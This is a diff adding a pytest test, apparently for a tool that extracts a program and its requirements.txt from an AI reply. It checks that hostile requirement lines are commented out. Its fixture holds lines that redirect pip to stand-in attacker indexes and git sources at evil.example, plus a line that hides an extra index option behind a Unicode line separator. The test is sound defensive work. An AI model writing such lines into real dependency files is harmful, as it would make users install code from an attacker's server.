@@ -219,6 +219,35 @@ def test_extract_writes_the_program_and_nothing_else(capsys: pytest.CaptureFixtu
     assert capsys.readouterr().out.splitlines() == ["out/main.py", "out/requirements.txt"]
 
 
+HOSTILE = """\
+Run `conda install pytorch=2.1` or `pip install package_name`.
+And `pip install --index-url=https://a.example six`.
+
+```requirements.txt
+--index-url https://evil.example/simple
+git+https://evil.example/x.git
+-e .
+rich>=13   # the colours
+./folder
+tomli ; python_version < '3.11'
+six \u2028--extra-index-url https://evil.example
+```
+
+```python
+print("hello")
+```
+"""
+
+
+@pytest.mark.parametrize("command", [["extract"], ["--sandbox", "none", "--offline"]])
+def test_no_line_that_pip_would_obey_is_written(command: list[str]) -> None:
+    main([*command, reply(HOSTILE), "--write", "out"])
+    lines = Path("out/requirements.txt").read_text().splitlines()
+    asked = [line for line in lines if not line.startswith("# left out: ")]
+    assert asked == ["torch==2.1.*", "six", "rich>=13", 'tomli ; python_version < "3.11"']
+    assert len(lines) - len(asked) == 6
+
+
 # ── the whole job ────────────────────────────────────────────────────────────────────────────────
 
 
